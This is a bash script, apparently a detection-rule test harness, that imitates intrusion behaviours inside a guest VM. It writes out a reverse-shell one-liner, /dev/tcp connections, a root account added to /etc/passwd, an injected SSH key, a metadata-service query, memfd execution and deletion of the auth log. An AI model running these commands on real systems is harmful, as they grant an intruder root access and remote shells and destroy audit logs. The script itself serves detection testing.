#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Does in a guest, as root and harmlessly, what the bundled rules look for: one function a rule, named like it.
# Run it with names of rules to do only those. It undoes what it can, and sends nothing out of the guest: the
# addresses it connects to are made unreachable first.
set -u
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
work=$(mktemp -d /var/local/intrusion.XXXXXX)
outside=11.22.33   # a public network by its number; the next line keeps everything from it
ip route replace unreachable "$outside.0/24"

accounts-changed() { echo 'intruder:x:0:0::/root:/bin/sh' >> /etc/passwd; sed -i '/^intruder:/d' /etc/passwd; }
authorized-keys-changed() { mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAdemo intruder' >> /root/.ssh/authorized_keys; }
cron-changed() { mkdir -p /etc/cron.d; echo '* * * * * root true' > /etc/cron.d/intruder; rm /etc/cron.d/intruder; }
cryptominer-started() { cp /bin/true "$work/xmrig"; "$work/xmrig" -o stratum+tcp://pool.invalid:3333 -u wallet; }
deleted-program() { cp /bin/true "$work/gone"; exec 9< "$work/gone"; rm "$work/gone"; /proc/self/fd/9; exec 9<&-; }
downloaded-program() {
    mkdir "$work/www"; cp /bin/true "$work/www/payload"
    busybox httpd -f -p 127.0.0.1:8099 -h "$work/www" & local server=$!
    sleep 0.5; curl -s -o "$work/payload" http://127.0.0.1:8099/payload; kill "$server"
    chmod +x "$work/payload"; "$work/payload"
}
dynamic-dns-name() { busybox nslookup intruder.duckdns.org 127.0.0.1 > "$work/dns" 2>&1; }
false-kernel-thread() { (exec -a '[kworker/0:1]' /bin/true); }
hidden-program() { cp /bin/true "$work/.update"; "$work/.update"; }
kernel-module-loader() { busybox insmod "$work/rootkit.ko" 2> "$work/insmod"; }
ld-preload-changed() { echo > /etc/ld.so.preload; rm /etc/ld.so.preload; }
log-removed() { echo 'a line' >> /var/log/auth.log; rm /var/log/auth.log; }
login-script-changed() { echo '# intruder' >> /etc/profile; sed -i '/^# intruder$/d' /etc/profile; }
connect-all() { python3 - "$@" <<'PYTHON'
import socket
import sys
for place in sys.argv[1:]:
    host, _, port = place.rpartition(":")
    with socket.socket() as sock:
        sock.settimeout(1)
        sock.connect_ex((host, int(port)))
PYTHON
}
mail-burst() { connect-all "$outside".{1..12}:25; }
mail-port-connection() { connect-all "$outside.77:25"; }
metadata-service-asked() { ip route replace unreachable 169.254.169.254; curl -s -m 2 http://169.254.169.254/latest/meta-data/; }
mining-pool-connection() { connect-all "$outside.9:3333"; }
mining-pool-name() { busybox nslookup pool.supportxmr.com 127.0.0.1 > "$work/dns" 2>&1; }
network-sweep() { connect-all 127.0.1.{1..32}:22; }
port-scan() { connect-all 127.0.0.1:{1..24}; }
program-from-memory() { python3 -c 'import os
memory = os.memfd_create("payload")
os.write(memory, open("/bin/true", "rb").read())
os.execv(f"/proc/self/fd/{memory}", ["payload"])'; }
program-from-temporary-directory() { cp /bin/true /tmp/dropped; /tmp/dropped; rm /tmp/dropped; }
reverse-shell-command() { bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' 2> "$work/shell"; }
setuid-bit-set() { cp /bin/true "$work/rootshell"; chmod 4755 "$work/rootshell"; }
shell-connects() { bash -c "exec 3<>/dev/tcp/$outside.5/443" 2> "$work/shell"; }
shell-from-network-service() { cp /bin/bash "$work/nginx"; "$work/nginx" -c '/bin/sh -c id; true' > "$work/id"; }
system-program-replaced() { echo '#!/bin/sh' > /usr/bin/intruder; rm /usr/bin/intruder; }
systemd-unit-changed() {
    mkdir -p /etc/systemd/system
    echo '[Service]' > /etc/systemd/system/intruder.service; rm /etc/systemd/system/intruder.service
}

all=(accounts-changed authorized-keys-changed cron-changed cryptominer-started deleted-program downloaded-program
     dynamic-dns-name false-kernel-thread hidden-program kernel-module-loader ld-preload-changed log-removed
     login-script-changed mail-burst mail-port-connection metadata-service-asked mining-pool-connection
     mining-pool-name network-sweep port-scan program-from-memory program-from-temporary-directory
     reverse-shell-command setuid-bit-set shell-connects shell-from-network-service system-program-replaced
     systemd-unit-changed)
if [ $# -eq 0 ]; then set -- "${all[@]}"; fi
for behaviour in "$@"; do
    echo "$behaviour"
    "$behaviour"
done
rm -rf "$work"
